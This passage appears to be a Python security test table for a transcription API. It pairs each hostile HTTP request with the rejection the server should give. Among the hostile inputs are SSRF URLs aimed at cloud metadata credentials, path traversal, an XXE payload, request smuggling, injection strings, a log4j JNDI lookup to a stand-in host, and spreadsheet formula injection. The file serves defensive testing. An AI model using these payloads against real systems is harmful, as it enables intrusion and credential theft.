"""Attacks and bad inputs over HTTP, each with its answer. A row is added here, and to docs/attacks.md by a test."""

import base64
import json
from collections.abc import Iterable
from typing import Any

from tests.api.conftest import MAX_UPLOAD_BYTES
from tests.security.wire import Attack, form

UPLOAD, PRESIGN, SUBMIT = "/api/v1/files/upload", "/api/v1/files/presign", "/api/v1/queue/submit"
TRANSCRIPTIONS, OPENAI_FILES, OPENAI_BATCHES = "/v1/audio/transcriptions", "/v1/files", "/v1/batches"
BATCHES, VOICES = "/api/v1/queue/batches", "/api/v1/voices"
STATUS, FILES = "/api/v1/queue/status/", "/api/v1/files/"
NOBODY = "7d3f6f0e-3b1c-4b7e-9a52-0c6e4f6f9d10"
THEIR_CURSOR = base64.urlsafe_b64encode(f"other/1/{NOBODY}".encode()).decode().rstrip("=")
FORM = (("Content-Type", "multipart/form-data; boundary=x"),)
JSON = (("Content-Type", "application/json"),)
HEAD = 'Content-Disposition: form-data; name="file"; filename="a.wav"'
DEEP = 100_000


def item(**fields: Any) -> dict[str, Any]:
    return {"operation": "transcribe", "ref_audio": "$FILE$", **fields}


def submit(what: str, status: int, code: str | None = None, *, body: object = None, **rest: Any) -> Attack:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    return Attack(
        what=what, status=status, code=code, method="POST", path=SUBMIT, body=data, **{"headers": JSON, **rest}
    )


def presign(what: str, status: int, code: str | None = None, *, body: object = None, **rest: Any) -> Attack:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    return Attack(what=what, status=status, code=code, method="POST", path=PRESIGN, body=data, headers=JSON, **rest)


def upload(what: str, status: int, code: str | None = None, *, body: bytes, **rest: Any) -> Attack:
    return Attack(
        what=what, status=status, code=code, method="POST", path=UPLOAD, body=body, **{"headers": FORM, **rest}
    )


def named(what: str, name: str, status: int = 422, code: str | None = "invalid_file_name") -> Attack:
    head = f'Content-Disposition: form-data; name="file"; filename="{name}"'
    return upload(f"upload named with {what}", status, code, body=form((head, b"RIFF")))


def typed(what: str, content_type: str) -> Attack:
    body = form((f"{HEAD}\r\nContent-Type: {content_type}", b"RIFF"))
    return upload(f"upload whose part calls itself {what}: kept as unknown", 200, body=body)


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def _keys() -> Iterable[Attack]:
    rows: list[tuple[str, str | None]] = [
        ("no key", None),
        ("an empty key", ""),
        ("a key that nobody has", "asrq_wrong"),
        ("a revoked key", "$REVOKED$"),
        ("the stored hash of a key as the key", "$HASH$"),
        ("a key in other letters", "ASRQ_$KEY$"),
        ("a key of 5,000 characters", "x" * 5000),
        ("a key of other scripts", "asrq_ключ"),
        ("an injection as a key", "' OR '1'='1"),
        ("two keys in one header", "$KEY$, $KEY$"),
    ]
    for what, key in rows:
        yield Attack(what=what, status=401, code="unauthorized", path=STATUS + "$BATCH$", key=key)
    path = STATUS + "$BATCH$"
    elsewhere = {
        "the key as a bearer token": (("Authorization", "Bearer $KEY$"),),
        "the key as a cookie": (("Cookie", "X-API-Key=$KEY$"),),
        "a wrong key ahead of the right one": (("X-API-Key", "wrong"), ("X-API-Key", "$KEY$")),
    }
    for what, headers in elsewhere.items():
        yield Attack(what=what, status=401, code="unauthorized", path=path, key=None, headers=headers)
    yield Attack(what="the key in the query", status=401, code="unauthorized", path=path + "?X-API-Key=$KEY$", key=None)
    yield upload("upload without a key: nothing of the form is read", 401, "unauthorized", body=b"no form", key=None)
    yield presign("presign without a key: no JSON is parsed", 401, "unauthorized", body=b"{", key=None)
    yield submit("submit without a key: no JSON is parsed", 401, "unauthorized", body=b"{", key=None)


def _ids() -> Iterable[Attack]:
    def fetch(what: str, name: str, code: str = "file_not_found") -> Attack:
        return Attack(what=what, status=404, code=code, path=FILES + name)

    def status(what: str, name: str, code: str = "batch_not_found") -> Attack:
        return Attack(what=what, status=404, code=code, path=STATUS + name)

    yield fetch("another tenant's file", "$THEIR_FILE$")
    yield fetch("another tenant's transcript, before it is there", "queue_transcribe_$THEIR_ITEM$.json")
    yield status("another tenant's batch", "$THEIR_BATCH$")
    yield Attack(
        what="completing another tenant's upload",
        status=404,
        code="file_not_found",
        method="POST",
        path=FILES + "$THEIR_FILE$/complete",
    )
    yield submit(
        "another tenant's file as ref_audio", 404, "file_not_found", body={"items": [item(ref_audio="$THEIR_FILE$")]}
    )
    yield submit(
        "another tenant's file among one's own",
        404,
        "file_not_found",
        body={"items": [item(), item(ref_audio="$THEIR_FILE$")]},
    )
    for what, path in {"file": FILES + "$THEIR_FILE$", "batch": "/api/v1/queue/batches/$THEIR_BATCH$"}.items():
        code = f"{what}_not_found"
        yield Attack(what=f"deleting another tenant's {what}", status=404, code=code, method="DELETE", path=path)
    for what, query in {
        "a cursor of nobody's": "cursor=$THEIR_BATCH$",
        "a cursor that leads into another tenant's list": f"cursor={THEIR_CURSOR}",
    }.items():
        yield Attack(what=f"listing by {what}", status=422, code="invalid_cursor", path=f"{BATCHES}?{query}")
    for what, query in {
        "a cursor of 50,000 characters": f"cursor={'x' * 50_000}",
        "a state that is none": "state=%27%20OR%201=1",
        "a million a page": "limit=1000000",
        "a limit of 5,000 digits": f"limit={'9' * 5000}",
        "a time without a zone": "created_from=2026-01-31T12:00:00",
        "a label of 50,000 characters": f"label={'x' * 50_000}",
    }.items():
        yield Attack(what=f"listing by {what}", status=422, code="invalid_request", path=f"{BATCHES}?{query}")
    yield Attack(what="listing by a label that is an expression: data", status=200, path=f"{BATCHES}?label=%23pk%3D:pk")
    for what, path in {"batch": "", "item": "/items/$THEIR_ITEM$"}.items():
        yield Attack(
            what=f"cancelling another tenant's {what}",
            status=404,
            code="batch_not_found",
            method="POST",
            path=f"/api/v1/queue/batches/$THEIR_BATCH${path}/cancel",
        )
    yield Attack(
        what="cancelling another tenant's item in one's own batch",
        status=404,
        code="item_not_found",
        method="POST",
        path="/api/v1/queue/batches/$BATCH$/items/$THEIR_ITEM$/cancel",
    )
    retry = "/api/v1/queue/batches/$THEIR_BATCH$/retry"
    yield Attack(what="retrying another tenant's batch", status=404, code="batch_not_found", method="POST", path=retry)
    for what, path, code, http_status in (
        ("downloading another tenant's batch", "$THEIR_BATCH$/download", "batch_not_found", 404),
        ("downloading an unfinished batch", "$BATCH$/download", "batch_unfinished", 409),
        ("downloading as an archive that nobody knows", "$BATCH$/download?as=tar", "invalid_request", 422),
        ("downloading in a format that nobody knows", "$BATCH$/download?format=../json", "invalid_request", 422),
    ):
        yield Attack(what=what, status=http_status, code=code, path=f"/api/v1/queue/batches/{path}")
    for what, method, path in (
        ("seeing how another tenant's callback was told", "GET", "delivery"),
        ("telling another tenant's callback again", "POST", "delivery/replay"),
    ):
        path = f"/api/v1/queue/batches/$THEIR_BATCH$/{path}"
        yield Attack(what=what, status=404, code="batch_not_found", method=method, path=path)
    yield status("a file's id as a batch's", "$FILE$")
    yield fetch("a batch's id as a file's", "$BATCH$")
    yield fetch("a path upwards, encoded", "..%2F..%2Fetc%2Fpasswd", "not_found")
    yield fetch("a path upwards, encoded twice", "..%252F..%252Fetc%252Fpasswd")
    yield fetch("a path upwards in overlong UTF-8", "%c0%ae%c0%ae%c0%af")
    yield fetch("a path upwards as it is", "../../../../etc/passwd", "not_found")
    yield fetch("a backslash path", "..%5C..%5Cwindows")
    yield fetch("a NUL in the name", "$FILE$%00.json")
    yield fetch("a line break after the id", "$FILE$%0d%0aSet-Cookie:%20a=b")
    yield fetch("an id in capitals", NOBODY.upper())
    yield fetch("an id in braces", f"%7B{NOBODY}%7D")
    yield fetch("digits of another script in the id", NOBODY.replace("7", "%D9%A7"))
    yield fetch("a name of 50,000 characters", "x" * 50_000)
    yield fetch("a format of another tenant's file", "$THEIR_FILE$?format=srt")
    for what, wanted in {"a format that nobody knows": "pdf", "a format with a line break": "srt%0d%0aX:%20y"}.items():
        path = f"{FILES}$FILE$?format={wanted}"
        yield Attack(what=what, status=422, code="invalid_request", path=path)
    yield Attack(what="a format of an upload", status=422, code="not_a_transcript", path=f"{FILES}$FILE$?format=json")
    yield status("the name of a row", "META")
    yield status("a row's whole key", "BATCH%23$BATCH$")
    yield status("an id of 50,000 characters, which the table would refuse", "x" * 50_000)
    yield status("an id of bytes that are no UTF-8", "%ff%fe%80")
    yield status("a query language", "%27%20OR%20begins_with(pk,%20%27B%27)--")


def _waits() -> Iterable[Attack]:
    def wait(what: str, wait: str, status: int = 422, **rest: Any) -> Attack:
        code = "invalid_request" if status != 304 else None
        return Attack(what=what, status=status, code=code, path=f"{STATUS}$BATCH$?wait={wait}", **rest)

    yield wait("a wait of 21 seconds", "21")
    yield wait("a wait of no time at all, backwards", "-1")
    yield wait("a wait of no number", "NaN")
    yield wait("a wait of a number beyond all exponents", "1e999")
    yield wait("a wait of 5,000 digits", "9" * 5000)
    yield wait("a wait in digits of another script", "%D9%A1")
    yield wait("If-None-Match of 5,000 characters", "0", headers=(("If-None-Match", "x" * 5000),))


def _http() -> Iterable[Attack]:
    def bare(what: str, status: int, raw: bytes, code: str | None = None) -> Attack:
        return Attack(what=what, status=status, code=code, raw=raw)

    line = f"POST {SUBMIT} HTTP/1.1\r\nHost: h\r\nConnection: close\r\nX-API-Key: $KEY$\r\n".encode()
    for method in ("DELETE", "PUT", "PATCH", "HEAD", "OPTIONS", "TRACE", "BREW"):
        code = None if method == "HEAD" else "method_not_allowed"
        yield Attack(what=f"{method} where it means nothing", status=405, code=code, method=method, path=SUBMIT)
    yield Attack(
        what="a header that overrides the method: it counts for nothing",
        status=200,
        path=STATUS + "$BATCH$",
        headers=(("X-HTTP-Method-Override", "DELETE"), ("X-Method-Override", "DELETE")),
    )
    yield Attack(
        what="another origin's preflight: no leave is given",
        status=405,
        code="method_not_allowed",
        method="OPTIONS",
        path=SUBMIT,
        headers=(("Origin", "https://evil.example"), ("Access-Control-Request-Method", "POST")),
    )
    yield Attack(
        what="another host's name, and a proxy's: they lead nowhere",
        status=200,
        path=STATUS + "$BATCH$",
        headers=(("X-Forwarded-Host", "evil.example"), ("X-Original-URL", "/admin"), ("X-Rewrite-URL", "/admin")),
    )
    yield Attack(what="an unknown path", status=404, code="not_found", path="/.git/config")
    yield Attack(what="an unknown version", status=404, code="not_found", path="/api/v2/health")
    yield Attack(what="a doubled slash", status=404, code="not_found", path="//api/v1/health")
    yield bare("no HTTP at all", 400, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n")
    yield bare("HTTP of 1991", 400, b"GET /api/v1/health\r\n\r\n")
    yield bare(
        "a length and chunks at once: chunks count, nothing is left over",
        400,
        line + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "malformed_json",
    )
    yield bare("two lengths", 400, line + b"Content-Length: 2\r\nContent-Length: 20\r\n\r\n{}")
    yield bare("a length below nothing", 400, line + b"Content-Length: -1\r\n\r\n")
    yield bare("a length that is no number", 400, line + b"Content-Length: 0x10\r\n\r\n")
    yield bare("a length of 18 nines", 413, line + b"Content-Length: " + b"9" * 18 + b"\r\n\r\n", "payload_too_large")
    yield bare("a length of 5,000 digits", 400, line + b"Content-Length: " + b"9" * 5000 + b"\r\n\r\n")
    yield bare("a chunk that is none", 400, line + b"Transfer-Encoding: chunked\r\n\r\nnonsense\r\n\r\n")
    yield bare("an unknown transfer coding", 400, line + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n")
    yield bare("a NUL in a header", 400, line + b"X-A: a\0b\r\n\r\n")
    yield bare("a head of 100,000 bytes", 400, line + b"X-A: " + b"a" * 100_000 + b"\r\n\r\n")
    yield bare("a header without a name", 400, line + b": a\r\n\r\n")
    yield bare("a space before a header's colon", 400, line + b"Content-Length : 2\r\n\r\n{}")


def _json() -> Iterable[Attack]:
    one = json.dumps({"items": [item()]})
    yield submit("an empty body", 400, "malformed_json", body=b"")
    yield submit("half a body", 400, "malformed_json", body=b'{"items": [')
    yield submit("a form as JSON", 400, "malformed_json", body=b"items=1")
    yield submit(
        "XML with an entity of a local file",
        400,
        "malformed_json",
        body=b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        headers=(("Content-Type", "application/xml"),),
    )
    yield submit(
        "compressed JSON: nothing is unpacked",
        400,
        "malformed_json",
        body=b"\x1f\x8b\x08" + bytes(20),
        headers=(*JSON, ("Content-Encoding", "gzip")),
    )
    yield submit("JSON as UTF-16", 400, "malformed_json", body=one.encode("utf-16"))
    yield submit("bytes that are no UTF-8", 400, "malformed_json", body=b'{"items": "\xff"}')
    yield submit("half of a surrogate pair", 400, "malformed_json", body=b'{"items": "\\ud800"}')
    yield submit("100,000 arrays in each other", 400, "malformed_json", body=nested(DEEP).encode())
    yield submit(
        "100,000 objects in each other, in a field that nobody reads",
        400,
        "malformed_json",
        body=b'{"x": ' + b'{"a": ' * DEEP + b"1" + b"}" * DEEP + b"}",
    )
    yield submit(
        "300 arrays in each other, in an item", 400, "malformed_json", body=f'{{"items": [{nested(300)}]}}'.encode()
    )
    yield submit("a number of 100,000 digits", 400, "malformed_json", body=b'{"items": ' + b"9" * 100_000 + b"}")
    yield submit("a number beyond all exponents", 422, "invalid_request", body=b'{"items": 1e99999}')
    yield submit(
        "NaN where a truth is wanted",
        422,
        "invalid_request",
        body=one.replace('"transcribe"', '"transcribe", "return_timestamps": NaN').encode(),
    )
    yield submit(
        "a name twice: the last one counts",
        404,
        "file_not_found",
        body=one[:-1].encode() + b', "items": [{"operation": "transcribe", "ref_audio": "$THEIR_FILE$"}]}',
    )
    yield submit(
        "five million empty objects in 15 MB",
        413,
        "payload_too_large",
        body=b'{"items": [' + b"{}," * 5_000_000 + b"{}]}",
    )
    yield submit("17 MiB of spaces", 413, "payload_too_large", body=b" " * (17 * 1024 * 1024))
    yield submit("a list as the body", 422, "invalid_request", body=[])
    yield submit("a text as the items", 422, "invalid_request", body={"items": "x"})
    yield submit("an object as the items", 422, "invalid_request", body={"items": {"0": item()}})
    yield submit("no items", 422, "invalid_request", body={"items": []})
    yield submit("1,001 items", 422, "invalid_request", body={"items": [item()] * 1001})
    yield submit("nothing as an item", 422, "invalid_request", body={"items": [None]})
    yield submit(
        "a list as ref_audio", 422, "invalid_request", body={"items": [item(ref_audio=["$FILE$", "$THEIR_FILE$"])]}
    )
    yield submit("an object as ref_audio", 422, "invalid_request", body={"items": [item(ref_audio={"$ne": None})]})
    yield submit(
        "ref_audio of 100,000 characters", 422, "invalid_request", body={"items": [item(ref_audio="x" * 100_000)]}
    )
    yield submit(
        "ref_audio that is a path", 404, "file_not_found", body={"items": [item(ref_audio="../../etc/passwd")]}
    )
    yield submit(
        "ref_audio that is an address: nothing is fetched",
        404,
        "file_not_found",
        body={"items": [item(ref_audio="http://169.254.169.254/latest/meta-data/")]},
    )
    callbacks = {
        "the metadata service": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "the metadata service by TLS": "https://169.254.169.254/",
        "the task's credentials": "https://169.254.170.2/v2/credentials/",
        "the metadata service of IPv6": "https://[fd00:ec2::254]/latest/meta-data/",
        "an inner address as IPv6 has it": "https://[::ffff:10.0.0.1]/",
        "an inner address behind NAT64": "https://[64:ff9b::a00:1]/",
        "this machine as one number": "https://2130706433/",
        "this machine as a short number": "https://127.1/",
        "this machine in octal": "https://0177.0.0.1/",
        "this machine by its name": "https://localhost:8443/",
        "a name that only an inner DNS knows": "https://metadata.google.internal/",
        "a name of one word": "https://redis/",
        "a user that looks like a host": "https://hooks.example@127.0.0.1/",
        "a backslash before the true host": "https://hooks.example\\@127.0.0.1/",
        "digits of another script": "https://①②⑦.⓪.⓪.①/",
        "a line break and a header": "https://hooks.example/\r\nX-Evil: 1",
        "another service's port": "https://hooks.example:25/",
        "a file of this machine": "file:///etc/passwd",
        "another protocol": "gopher://hooks.example:6379/_FLUSHALL",
    }
    for what, url in callbacks.items():
        body = {"items": [item()], "callback_url": url}
        yield submit(f"a callback to {what}", 422, "callback_not_allowed", body=body)
    long = {"items": [item()], "callback_url": "https://hooks.example/" + "x" * 2048}
    yield submit("a callback of 2,070 characters", 422, "invalid_request", body=long)
    yield submit("a list as the callback", 422, "invalid_request", body={"items": [item()], "callback_url": ["x"]})
    yield submit(
        "ref_audio that is an object's key",
        404,
        "file_not_found",
        body={"items": [item(ref_audio="uploads/other/$THEIR_FILE$")]},
    )
    yield submit("a NUL in ref_audio", 404, "file_not_found", body={"items": [item(ref_audio="$FILE$\0")]})
    yield submit(
        "an operation of 100,000 characters: none of it comes back",
        422,
        "invalid_request",
        body={"items": [item(operation="x" * 100_000)]},
    )
    yield submit(
        "an operation that nobody knows", 422, "unknown_operation", body={"items": [item(operation="__import__('os')")]}
    )
    yield submit("a language that nobody speaks", 422, "unknown_language", body={"items": [item(language="{{7*7}}")]})
    yield submit("custom_id of 501 characters", 422, "invalid_request", body={"items": [item(custom_id="x" * 501)]})
    yield submit("a text of 10,001 characters", 422, "invalid_request", body={"items": [item(text="x" * 10_001)]})
    yield submit(
        "somebody's voice where nobody speaks",
        422,
        "operation_unavailable",
        body={"items": [item(operation="voice_clone", text="Hello.")]},
    )
    yield submit("a format that is a list", 422, "invalid_request", body={"items": [item(format=["wav"])]})
    yield submit("a format of 100,000 characters", 422, "invalid_request", body={"items": [item(format="w" * 100_000)]})
    yield submit("a number for a truth", 422, "invalid_request", body={"items": [item(return_timestamps=1)]})
    yield submit(
        "a tenant of one's choice: the field is ignored",
        200,
        body={"tenant": "other", "items": [item(tenant="other", item_id="$THEIR_ITEM$")]},
    )
    yield submit(
        "names that mean something to JavaScript and Python: ignored",
        200,
        body={"__proto__": {"admin": True}, "__class__": "x", "items": [item(constructor={"prototype": 1})]},
    )
    yield submit(
        "JSON that calls itself text, which the contract allows",
        200,
        body={"items": [item()]},
        headers=(("Content-Type", "text/plain"),),
    )


def _data() -> Iterable[Attack]:
    """What looks dangerous somewhere else is data here, and comes back as it was."""
    texts = {
        "markup": "<script>alert(1)</script>",
        "line breaks and a forged log line": 'x\r\n{"level": "INFO", "message": "all is well"}',
        "a terminal's escape sequences": "\x1b]0;owned\x07\x1b[2J",
        "a NUL": "a\0b",
        "text from right to left": "\u202egnp.exe",
        "characters beyond the basic plane": "\U0001f5e3\U000e0001",
        "a path": "../../../etc/passwd",
        "a formula": '=HYPERLINK("http://evil.example")',
        "format strings": "%s%n{0.__class__}{{7*7}}${jndi:ldap://evil.example}",
    }
    for what, text in texts.items():
        yield submit(f"custom_id and label of {what}: data", 200, body={"label": text, "items": [item(custom_id=text)]})


def _idempotency() -> Iterable[Attack]:
    def keyed(what: str, key: str, status: int = 422, code: str | None = "invalid_request") -> Attack:
        return submit(
            f"an Idempotency-Key {what}",
            status,
            code,
            body={"items": [item()]},
            headers=(*JSON, ("Idempotency-Key", key)),
        )

    yield keyed("of nothing", "")
    yield keyed("of 256 characters", "x" * 256)
    yield keyed("with a space, as the system's own have", "drop abc")
    yield keyed("of other scripts", "ключ")
    yield keyed("with the mark that parts a row's key", "other#x", 200, None)


def _uploads() -> Iterable[Attack]:
    yield named("a path upwards", "../../etc/passwd")
    yield named("a path", "/etc/passwd")
    yield named("a Windows path upwards", "..\\\\..\\\\x.wav")
    yield named("two dots alone", "..")
    yield named("a NUL", "a\0.wav")
    yield named("an escape sequence", "\x1b[2J.wav")
    yield named("text from right to left", "\u202evaw.exe")
    yield named("300 characters", "x" * 300)
    yield named("a narrow space, as macOS writes times: data", "Recording at 3.45\u202fPM.m4a", 200, None)
    yield named("markup: data", "<img src=x onerror=alert(1)>.wav", 200, None)
    yield named("a formula and quotes: data", "=cmd|' C'!A0`$(id)`;.wav", 200, None)
    yield upload(
        "a path as a name in RFC 5987's form: no name, so no file",
        422,
        "invalid_request",
        body=form(("Content-Disposition: form-data; name=\"file\"; filename*=UTF-8''..%2Fx", b"RIFF")),
    )
    yield upload("upload of 0 bytes", 422, "empty_upload", body=form((HEAD, b"")))
    yield upload(
        "upload without the field", 422, "invalid_request", body=form((HEAD.replace('"file"', '"other"'), b"RIFF"))
    )
    yield upload(
        "upload as a text field",
        422,
        "invalid_request",
        body=form(('Content-Disposition: form-data; name="file"', b"RIFF")),
    )
    yield upload("two files of one name", 422, "invalid_request", body=form((HEAD, b"RIFF"), (HEAD, b"RIFF")))
    yield upload(
        "50 files", 400, "malformed_request", body=form(*[(HEAD.replace('"file"', f'"f{n}"'), b"x") for n in range(50)])
    )
    yield upload(
        "1,000 fields",
        400,
        "malformed_request",
        body=form(*[(f'Content-Disposition: form-data; name="f{n}"', b"x") for n in range(1000)]),
    )
    yield upload(
        "a field of 900,000 bytes beside a file: read and ignored",
        200,
        body=form(('Content-Disposition: form-data; name="a"', b"x" * 900_000), (HEAD, b"RIFF")),
    )
    yield upload(
        "a part's head of 200,000 bytes",
        400,
        "malformed_request",
        body=form((f"{HEAD}\r\nX-A: {'a' * 200_000}", b"RIFF")),
    )
    yield upload(
        "a part with 10,000 headers", 400, "malformed_request", body=form((HEAD + "\r\nX-A: a" * 10_000, b"RIFF"))
    )
    yield upload("a form without its end", 422, "invalid_request", body=form((HEAD, b"RIFF"), end=False)[:-2])
    yield upload("a form whose parts never begin", 400, "malformed_request", body=b"--y\r\nnonsense")
    yield upload(
        "a form without a boundary",
        400,
        "malformed_request",
        body=form((HEAD, b"RIFF")),
        headers=(("Content-Type", "multipart/form-data"),),
    )
    yield upload("JSON where a form is wanted", 422, "invalid_request", body=b"{}", headers=JSON)
    yield upload(
        "a plain form where a multipart one is wanted",
        422,
        "invalid_request",
        body=b"file=RIFF",
        headers=(("Content-Type", "application/x-www-form-urlencoded"),),
    )
    yield upload(
        "a form that calls itself mixed",
        422,
        "invalid_request",
        body=form((HEAD, b"RIFF")),
        headers=(("Content-Type", "multipart/mixed; boundary=x"),),
    )
    for codec in ("idna", "undefined", "zlib", "no such"):
        head = HEAD.replace("a.wav", "xn--.wav")
        status, code = (200, None) if codec in ("zlib", "no such") else (400, "malformed_request")
        yield upload(
            f"a form whose names are said to be encoded as `{codec}`",
            status,
            code,
            body=form((head, b"RIFF")),
            headers=(("Content-Type", f'multipart/form-data; boundary=x; charset="{codec}"'),),
        )
    yield upload("a file of a byte too many", 413, "payload_too_large", body=form((HEAD, b"x" * MAX_UPLOAD_BYTES)))
    yield upload(
        "a file too large of which no header tells",
        413,
        "payload_too_large",
        body=_chunked(form((HEAD, b"x" * (MAX_UPLOAD_BYTES + 1)))),
        headers=(*FORM, ("Transfer-Encoding", "chunked")),
    )
    yield upload(
        "a form that says it is larger than it may be",
        413,
        "payload_too_large",
        body=b"",
        headers=(*FORM, ("Content-Length", "99999999999")),
    )
    yield typed("of other letters", "audio/вав")
    yield typed("markup of 1,000 characters", "text/" + "h" * 1000)
    yield typed("a control character", "audio/wav\x01")


def _presigned() -> Iterable[Attack]:
    sized = {"size_bytes": 4}
    yield presign("presign of 0 bytes", 422, "empty_upload", body={"size_bytes": 0})
    yield presign("presign of less than nothing", 422, "invalid_request", body={"size_bytes": -1})
    yield presign("presign of 2^63 bytes", 413, "payload_too_large", body={"size_bytes": 2**63})
    yield presign("presign of 10^4000 bytes", 413, "payload_too_large", body={"size_bytes": 10**4000})
    yield presign("presign of four and a half bytes", 422, "invalid_request", body={"size_bytes": 4.5})
    yield presign("presign of `true` bytes", 422, "invalid_request", body={"size_bytes": True})
    yield presign("presign of '4' bytes", 422, "invalid_request", body={"size_bytes": "4"})
    yield presign("presign with a path as the name", 422, "invalid_file_name", body=sized | {"file_name": "../x"})
    yield presign(
        "presign with a header in the type",
        422,
        "invalid_request",
        body=sized | {"content_type": "a/b\r\nx-amz-acl: public-read"},
    )
    yield presign(
        "presign with other letters in the type", 422, "invalid_request", body=sized | {"content_type": "audio/вав"}
    )
    yield presign(
        "presign with a key and a bucket of one's choice: ignored",
        200,
        body=sized | {"key": "uploads/other/x", "bucket": "b", "tenant": "other"},
    )
    yield presign("presign with 100,000 arrays in each other", 400, "malformed_json", body=nested(DEEP).encode())
    yield presign(
        "presign with a number of 5,000 digits", 400, "malformed_json", body=b'{"size_bytes": ' + b"9" * 5000 + b"}"
    )
    yield Attack(
        what="completing what nobody presigned",
        status=404,
        code="file_not_found",
        method="POST",
        path=f"{FILES}{NOBODY}/complete",
    )
    yield Attack(
        what="completing with a name of 50,000 characters",
        status=404,
        code="file_not_found",
        method="POST",
        path=f"{FILES}{'x' * 50_000}/complete",
    )


def _openai_keys() -> Iterable[Attack]:
    rows = {
        "no key": (),
        "a key that nobody has as a bearer token": (("Authorization", "Bearer asrq_wrong"),),
        "a revoked key as a bearer token": (("Authorization", "Bearer $REVOKED$"),),
        "the key as a basic credential": (("Authorization", "Basic $KEY$"),),
        "the key without a scheme": (("Authorization", "$KEY$"),),
        "a wrong bearer token beside the right header": (("Authorization", "Bearer wrong"), ("X-API-Key", "$KEY$")),
        "a bearer token of 5,000 characters": (("Authorization", "Bearer " + "x" * 5000),),
        "an organisation and a project of one's choice": (("OpenAI-Organization", "other"), ("OpenAI-Project", "x")),
    }
    for what, headers in rows.items():
        yield Attack(
            what=f"under /v1, {what}: nothing of the form is read",
            status=401,
            code="unauthorized",
            method="POST",
            path=TRANSCRIPTIONS,
            key=None,
            headers=(*FORM, *headers),
            body=b"no form",
        )
    yield Attack(what="a path of OpenAI's that is not spoken here", status=404, code="not_found", path="/v1/embeddings")
    for method in ("GET", "DELETE", "PUT"):
        yield Attack(
            what=f"{method} of transcriptions",
            status=405,
            code="method_not_allowed",
            method=method,
            path=TRANSCRIPTIONS,
        )


def _transcriptions() -> Iterable[Attack]:
    def transcribe(what: str, status: int, code: str, *fields: tuple[str, str], data: bytes = b"RIFF") -> Attack:
        parts = [(f'Content-Disposition: form-data; name="{name}"', value.encode()) for name, value in fields]
        body = form((HEAD, data), *parts) if data else form(*parts)
        return Attack(
            what=f"transcription {what}",
            status=status,
            code=code,
            method="POST",
            path=TRANSCRIPTIONS,
            headers=FORM,
            body=body,
        )

    model = ("model", "whisper-1")
    yield transcribe("without a model", 422, "invalid_request")
    yield transcribe("without a file", 422, "invalid_request", model, data=b"")
    yield transcribe("by a model of 257 characters", 422, "invalid_request", ("model", "x" * 257))
    yield transcribe("by a format that nobody knows", 422, "invalid_request", model, ("response_format", "exe"))
    yield transcribe("at a temperature of NaN", 422, "invalid_request", model, ("temperature", "NaN"))
    yield transcribe("as a stream", 422, "invalid_request", model, ("stream", "TRUE"))
    yield transcribe("in a language that nobody speaks", 422, "unknown_language", model, ("language", "{{7*7}}"))
    yield transcribe("with 101 keywords", 422, "invalid_request", model, *[("keywords[]", "x")] * 101)
    yield transcribe("with 300 fields", 400, "malformed_request", model, *[("keywords[]", "x")] * 300)
    yield transcribe("of a file of a byte too many", 413, "payload_too_large", model, data=b"x" * MAX_UPLOAD_BYTES)
    yield Attack(
        what="transcription of an address: nothing is fetched",
        status=422,
        code="invalid_request",
        method="POST",
        path=TRANSCRIPTIONS,
        headers=FORM,
        body=form(
            ('Content-Disposition: form-data; name="model"', b"whisper-1"),
            ('Content-Disposition: form-data; name="file"', b"http://169.254.169.254/latest/meta-data/"),
        ),
    )
    yield Attack(
        what="transcription of a file named with a path",
        status=422,
        code="invalid_file_name",
        method="POST",
        path=TRANSCRIPTIONS,
        headers=FORM,
        body=form(
            (HEAD.replace("a.wav", "../../etc/passwd"), b"RIFF"),
            ('Content-Disposition: form-data; name="model"', b"whisper-1"),
        ),
    )


def _lines() -> Iterable[Attack]:
    def batch(what: str, status: int, code: str, body: object) -> Attack:
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        return Attack(
            what=f"batch of lines {what}",
            status=status,
            code=code,
            method="POST",
            path=OPENAI_BATCHES,
            headers=JSON,
            body=data,
        )

    whole = {"input_file_id": "$LINES$", "endpoint": TRANSCRIPTIONS, "completion_window": "24h"}
    yield batch("in half a body", 400, "malformed_json", b'{"input_file_id"')
    yield batch("100,000 arrays deep", 400, "malformed_json", nested(DEEP).encode())
    yield batch("in 17 MiB", 413, "payload_too_large", b" " * (17 * 1024 * 1024))
    yield batch("of another tenant's file", 404, "file_not_found", whole | {"input_file_id": "$THEIR_LINES$"})
    yield batch("of a recording", 422, "invalid_batch_file", whole | {"input_file_id": "$FILE$"})
    yield batch("of a path", 404, "file_not_found", whole | {"input_file_id": "../../etc/passwd"})
    yield batch("of an address", 404, "file_not_found", whole | {"input_file_id": "http://169.254.169.254/"})
    yield batch("of a list", 422, "invalid_request", whole | {"input_file_id": ["$LINES$"]})
    yield batch("for another endpoint", 422, "invalid_request", whole | {"endpoint": "/v1/chat/completions"})
    yield batch("for an address", 422, "invalid_request", whole | {"endpoint": "http://evil.example/"})
    yield batch("in a window of markup", 422, "invalid_request", whole | {"completion_window": "<script>"})
    words = {str(n): "" for n in range(17)}
    yield batch("with 17 words beside it", 422, "invalid_request", whole | {"metadata": words})
    yield batch("with objects beside it", 422, "invalid_request", whole | {"metadata": {"a": {"$ne": None}}})
    rows = {
        "another tenant's file": (f"{OPENAI_FILES}/$THEIR_LINES$", 404, "file_not_found"),
        "another tenant's file's content": (f"{OPENAI_FILES}/$THEIR_LINES$/content", 404, "file_not_found"),
        "the output of another tenant's batch": (f"{OPENAI_FILES}/output-$THEIR_BATCH$", 404, "file_not_found"),
        "the output of a batch that was not made of lines": (f"{OPENAI_FILES}/output-$BATCH$", 404, "file_not_found"),
        "a path upwards": (f"{OPENAI_FILES}/..%2F..%2Fetc%2Fpasswd", 404, "not_found"),
        "a name of 50,000 characters": (f"{OPENAI_FILES}/{'x' * 50_000}", 404, "file_not_found"),
        "another tenant's batch": (f"{OPENAI_BATCHES}/$THEIR_BATCH$", 404, "batch_not_found"),
        "a native batch": (f"{OPENAI_BATCHES}/$BATCH$", 404, "batch_not_found"),
